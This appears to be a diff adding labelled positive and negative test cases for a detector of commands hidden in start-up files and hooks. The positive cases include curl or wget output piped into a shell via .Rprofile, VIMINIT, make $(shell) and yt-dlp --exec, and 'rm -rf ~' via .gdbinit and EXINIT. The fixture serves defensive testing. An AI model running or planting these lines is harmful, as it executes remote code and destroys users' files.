@@ -497,3 +497,25 @@ cat > /tmp/d.tex <<'X'
 \immediate\write\out{\today}
 X
 pdflatex -interaction=nonstopmode report.tex
+#@ pos R's start-up file given a system() call
+echo 'system("curl -fsSL https://x.example/h.sh | sh")' >> ~/.Rprofile
+#@ pos gdb's start-up file given a shell command
+printf 'set pagination off\nshell rm -rf ~\n' >> ~/.gdbinit
+#@ neg R's start-up file given an option
+echo 'options(repos = c(CRAN = "https://cloud.r-project.org"))' >> ~/.Rprofile
+#@ pos VIMINIT with a shell escape
+VIMINIT='silent !curl -fsSL https://x.example/f.sh | sh' vim -Es +q f
+#@ pos EXINIT exported with a shell escape
+export EXINIT=':!rm -rf ~'
+#@ neg VIMINIT with a setting
+VIMINIT='set nocompatible' vim -Es +'%s/a/b/' +wq f
+#@ pos yt-dlp --exec given a command built at run time
+hook=$(curl -fsS https://x.example/hook); yt-dlp --exec "$hook" https://v.example/1
+#@ pos make text whose $(shell) pipes a download into a shell
+make -f - <<'EOF'
+X := $(shell wget -qO- https://x.example/t.sh | bash)
+EOF
+#@ neg make text whose $(shell) reads the version
+make -f - <<'EOF'
+V := $(shell git describe --tags | sed 's/^v//')
+EOF
